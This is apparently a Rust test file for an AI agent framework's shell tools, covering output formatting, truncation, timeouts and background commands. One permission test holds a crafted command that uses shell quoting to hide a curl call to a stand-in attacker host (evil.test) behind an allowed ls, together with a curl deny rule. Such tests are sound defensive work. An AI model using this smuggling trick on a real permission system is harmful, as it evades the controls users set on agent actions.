//! The tools that run commands.

use std::sync::Arc;
use std::time::Duration;

use agentcore::backend::{Backend, MemoryBackend, Shell};
use agentcore::permission::{Behavior, PermissionRules};
use agentcore::tool::check_arguments;
use agentcore::tools::{coding, picoclaw, wick};
use agentcore::{BoxError, FuncTool, Tool, ToolCall, ToolContext, ToolOutput};
use serde_json::{Value, json};

use crate::kit::processes::{timed_out, written};
use crate::kit::workspace::Workspace;

/// A time limit that is more precise than a second, and a command that exceeds it.
const LIMIT: Duration = Duration::from_millis(300_300);
const SLOW: &str = "echo before; : > up; sleep 600";
const SLOW_TEXT: &str = "Command timed out after 300.3 seconds.\n\nbefore";

async fn call(tool: &impl Tool, args: Value) -> Result<ToolOutput, BoxError> {
    check_arguments(tool.parameters(), &args)?;
    tool.execute(ToolContext::detached(), args).await
}

async fn text(tool: &impl Tool, command: &str) -> String {
    match call(tool, json!({"command": command})).await {
        Ok(output) => output.content.text().into_owned(),
        Err(error) => format!("Error: {error}"),
    }
}

#[tokio::test]
async fn bash_shows_both_streams_in_order() {
    let workspace = Workspace::new();
    let tool = coding::bash(workspace.backend.clone());
    assert_eq!(text(&tool, "echo hello").await, "hello");
    assert_eq!(text(&tool, "echo 1; echo 2 >&2; echo 3").await, "1\n2\n3");
    assert_eq!(text(&tool, "true").await, "(no output)");
    assert_eq!(text(&tool, "echo no; exit 3").await, "no\n\nExit code: 3");
    assert_eq!(
        text(&tool, "kill -9 $$").await,
        "(no output)\n\nEnded by signal 9"
    );
    assert_eq!(text(&tool, "cat a/in.txt").await, "inside");
    assert_eq!(text(&tool, "cat").await, "(no output)");
    let empty = "Error: Command must be a non-empty string.";
    assert_eq!(text(&tool, "  ").await, empty);
    assert!(
        text(&tool, "none-such-program")
            .await
            .ends_with("Exit code: 127")
    );
    assert_eq!(Tool::timeout(&tool), Some(Duration::from_secs(615)));
    for args in [json!({}), json!({"command": "x", "timeout": 600_001})] {
        assert!(call(&tool, args).await.is_err());
    }
}

#[test]
fn command_is_checked_as_the_shell_of_the_backend_reads_it() {
    let local = Workspace::new().backend;
    let command = r"ls -d / $'\'; curl http://evil.test/s #'";
    let rules = PermissionRules::new().allow("Bash(ls:*)").unwrap();
    let rules = rules.deny("Bash(curl:*)").unwrap();
    let decide = |tool: FuncTool| {
        let call = ToolCall::new("c", tool.name(), json!({"command": command}));
        rules.explain(&call, &tool).decision
    };

    let expected = match local.shell() {
        Shell::Bash => Behavior::Allow,
        _ => Behavior::Ask,
    };
    assert_eq!(decide(coding::bash(local.clone())), expected);
    assert_eq!(decide(picoclaw::exec(local.clone())), expected);
    assert_eq!(decide(wick::execute(local)), expected);
    assert_eq!(decide(coding::bash(MemoryBackend::new())), Behavior::Ask);
    let own = || {
        FuncTool::new("Bash", "Runs", json!({"type": "object"}), |_, _| async {
            ""
        })
    };
    assert_eq!(decide(own()), Behavior::Ask);
    assert_eq!(decide(own().shell(Shell::Bash)), Behavior::Allow);
}

#[tokio::test]
async fn bash_cuts_long_output_in_the_middle() {
    let workspace = Workspace::new();
    let tool = coding::bash(workspace.backend.clone());
    let output = text(&tool, "seq 1 20000").await;
    assert!(output.starts_with("1\n2\n") && output.ends_with("19999\n20000"));
    assert!(
        output.contains("characters omitted) ..."),
        "{}",
        output.len()
    );
    assert!((30_000..30_100).contains(&output.chars().count()));
    let output = text(&tool, "echo first; yes | head -c 3000000; echo last").await;
    assert!(output.starts_with("first\ny\n") && output.ends_with("y\nlast"));
    assert!(output.contains("(cut: there were 3000011 bytes in all)"));
    assert!(output.chars().count() < 30_100);
}

#[tokio::test]
async fn bash_marks_output_that_is_not_utf8() {
    let workspace = Workspace::new();
    let tool = coding::bash(workspace.backend.clone());
    let output = text(&tool, r"printf 'a\xff\xfeb'").await;
    let expected = "[not UTF-8: 4 bytes, invalid ones shown as \u{FFFD}]\na\u{FFFD}\u{FFFD}b";
    assert_eq!(output, expected);
}

#[tokio::test]
async fn bash_ends_a_command_at_its_timeout() {
    let workspace = Workspace::new();
    let tool = coding::bash(workspace.backend.clone());
    let args = json!({"command": SLOW, "timeout": 300_300});
    let up = workspace.root.join("up");
    let (output, ()) = timed_out(call(&tool, args), written(&up), LIMIT).await;
    let output = output.unwrap();
    assert!(output.is_error);
    let text = output.content.text().into_owned();
    assert_eq!(text, SLOW_TEXT);
    assert_eq!(output.details.unwrap()["timed_out"], true);
}

#[tokio::test]
async fn bash_runs_in_the_background() {
    let workspace = Workspace::new();
    let bash = coding::bash(workspace.backend.clone());
    let read = coding::bash_output(workspace.backend.clone());
    let kill = coding::kill_bash(workspace.backend.clone());
    let command = "echo up; sleep 300";
    let args = json!({"command": command, "run_in_background": true});
    let id = call(&bash, args).await.unwrap().details.unwrap()["id"].clone();
    let mut progress_text = String::new();
    while !progress_text.contains("up") {
        let output = call(&read, json!({"id": id})).await.unwrap();
        progress_text = output.content.text().into_owned();
        tokio::time::sleep(Duration::from_millis(5)).await;
    }

    assert_eq!(progress_text, "Running.\n\nup");
    let output = call(&kill, json!({"id": id})).await.unwrap();
    assert!(output.content.text().starts_with("Ended."));
    let error = call(&kill, json!({"id": id})).await.unwrap_err();
    assert!(error.to_string().contains("no background command"));
}

#[tokio::test]
async fn execute_and_exec_label_stderr() {
    let workspace = Workspace::new();
    let execute = wick::execute(workspace.backend.clone());
    let command = "echo out; echo one >&2; echo two >&2; exit 2";
    let output = call(&execute, json!({"command": command})).await.unwrap();
    let output_text = output.content.text().into_owned();
    assert_eq!(
        output_text,
        "out\n\n[stderr] one\n[stderr] two\n\nExit code: 2"
    );
    let details = output.details.unwrap();
    assert_eq!(details["stdout"], "out\n");
    assert_eq!(details["stderr"], "one\ntwo\n");
    assert_eq!(details["exit_code"], 2);
    assert_eq!(text(&execute, "true").await, "<no output>");
    let exec = picoclaw::exec(workspace.backend.clone());
    let output = text(&exec, command).await;
    assert_eq!(output, "out\nSTDERR:\none\ntwo\n\nExit code: 2");
    assert_eq!(text(&exec, "true").await, "(no output)");
    let args = json!({"command": "cat in.txt", "working_dir": "a"});
    assert_eq!(call(&exec, args).await.unwrap().content.text(), "inside");
}

#[tokio::test]
async fn execute_output_matches_the_specified_text() {
    let workspace = Workspace::new();
    let execute = wick::execute(workspace.backend.clone());
    for (command, expected) in [
        (
            "echo o; echo e >&2; exit 3",
            "o\n\n[stderr] e\n\nExit code: 3",
        ),
        ("printf o; echo e >&2", "o\n[stderr] e"),
        (
            "echo e >&2; echo >&2; echo f >&2",
            "[stderr] e\n[stderr] \n[stderr] f",
        ),
        ("echo o; echo >&2", "o"),
        ("echo >&2; exit 4", "<no output>\n\nExit code: 4"),
        ("", "Error: Command must be a non-empty string."),
    ] {
        assert_eq!(text(&execute, command).await, expected, "{command}");
    }
}

#[tokio::test]
async fn shell_tools_use_the_timeout_of_the_backend() {
    let workspace = Workspace::new();
    let plain = workspace.backend.clone();
    let brief = plain.clone().with_timeout(LIMIT);
    let shared: Arc<dyn Backend> = Arc::new(brief.clone());
    for tool in [
        wick::execute(brief.clone()),
        wick::execute(shared),
        picoclaw::exec(brief.clone()),
        coding::bash(brief.clone()),
    ] {
        let up = workspace.root.join("up");
        let (shown, ()) = timed_out(text(&tool, SLOW), written(&up), LIMIT).await;
        assert_eq!(shown, SLOW_TEXT, "{}", tool.name());
        std::fs::remove_file(up).unwrap();
    }

    // A timeout in the call of `Bash` overrides the default.
    let args = json!({"command": "sleep 0.5; echo after", "timeout": 60_000});
    let brief = plain.clone().with_timeout(Duration::from_millis(300));
    let output = call(&coding::bash(brief), args).await.unwrap();
    assert_eq!(output.content.text(), "after");

    let long = plain.clone().with_timeout(Duration::from_secs(3_600));
    let hour = Some(Duration::from_secs(3_615));
    assert_eq!(Tool::timeout(&wick::execute(long.clone())), hour);
    assert_eq!(Tool::timeout(&picoclaw::exec(long.clone())), hour);
    assert_eq!(Tool::timeout(&coding::bash(long)), hour);
    let unset = Some(Duration::from_secs(135));
    assert_eq!(Tool::timeout(&wick::execute(plain.clone())), unset);
    let endless = plain.with_timeout(Duration::MAX);
    assert_eq!(text(&wick::execute(endless), "echo o").await, "o");
}

#[tokio::test]
async fn shell_tools_use_the_output_limit_of_the_backend() {
    let workspace = Workspace::new();
    let flood = "yes | head -c 300000";
    let wide = workspace.backend.clone().with_max_output(1_000_000);
    let narrow = workspace.backend.clone().with_max_output(1_000);
    for (wide, narrow) in [
        (wick::execute(wide.clone()), wick::execute(narrow.clone())),
        (picoclaw::exec(wide.clone()), picoclaw::exec(narrow.clone())),
        (coding::bash(wide), coding::bash(narrow)),
    ] {
        let name = wide.name();
        assert_eq!(text(&wide, flood).await.len(), 299_999, "{name}");
        let output = text(&narrow, flood).await;
        let expected = "\n\n... (299000 bytes omitted) ...\n\n";
        assert!(output.contains(expected) && output.len() < 1_100, "{name}");
    }
}

#[tokio::test]
async fn bash_on_a_backend_without_commands_is_an_error() {
    let output = text(&coding::bash(MemoryBackend::new()), "ls").await;
    assert_eq!(output, "Error: this backend runs no commands");
}
